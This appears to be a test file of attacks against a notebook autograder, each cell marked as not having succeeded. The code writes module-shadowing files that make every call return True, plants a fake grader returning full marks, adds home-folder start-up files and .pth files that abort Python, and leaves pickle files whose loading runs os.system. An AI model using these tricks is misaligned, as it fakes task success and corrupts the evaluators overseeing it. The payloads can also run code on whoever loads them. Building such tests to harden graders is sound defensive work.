# ruff: noqa
# Files that the notebook writes to be imported or run by somebody else. See ../catalogue.py.

# %% attack: modules_in_the_work_folder
# tries: write torch.py, numpy.py, autograder/ and json.py into the work folder, before the exercises are asked
# solved: none
# %%
import os

evil = "class Everything:\n    def __getattr__(self, n): return lambda *a, **k: True\nimport sys\nsys.modules[__name__] = Everything()\n"
for name in (
    "torch.py",
    "numpy.py",
    "json.py",
    "conftest.py",
    "sitecustomize.py",
    "usercustomize.py",
    "ipykernel_launcher.py",
    "evidence.py",
):
    open(name, "w").write(evil)
os.makedirs("autograder/grading", exist_ok=True)
open("autograder/__init__.py", "w").write("def check(*a, **k): return 10.0\n")
open("evil.pth", "w").write("import os; os._exit(0)\n")

# %% attack: startup_files_at_home
# tries: IPython, Jupyter, matplotlib and Python start-up files in the home folder
# solved: none
# %%
import os

home = os.path.expanduser("~")
for path, text in {
    ".ipython/profile_default/startup/00-evil.py": "check = lambda *a, **k: 10.0",
    ".ipython/profile_default/ipython_config.py": "c.InteractiveShellApp.exec_lines = ['1/0']",
    ".jupyter/jupyter_config.py": "raise SystemExit",
    ".config/matplotlib/matplotlibrc": "backend: nonsense",
    ".local/lib/python3.11/site-packages/evil.pth": "import os; os._exit(0)",
    ".pythonrc.py": "raise SystemExit",
}.items():
    try:
        os.makedirs(os.path.dirname(f"{home}/{path}"), exist_ok=True)
        open(f"{home}/{path}", "w").write(text)
    except OSError:
        pass

# %% attack: pickles_left
# tries: pickles and torch files whose loading runs code, where a grader might load results from
# solved: none
# %%
import os, pickle


class Bomb:
    def __reduce__(self):
        return (os.system, ("touch /tmp/pwned-5f1e",))


for name in ("evidence.pkl", "results.pt", "outputs.pickle", "light.ipynb"):
    open(name, "wb").write(pickle.dumps(Bomb()))


# %%
# exercise adam.l2_is_not_decay
def l2_and_decoupled(kind, w0, grad_fn, lr, wd, steps):
    return Bomb(), Bomb()
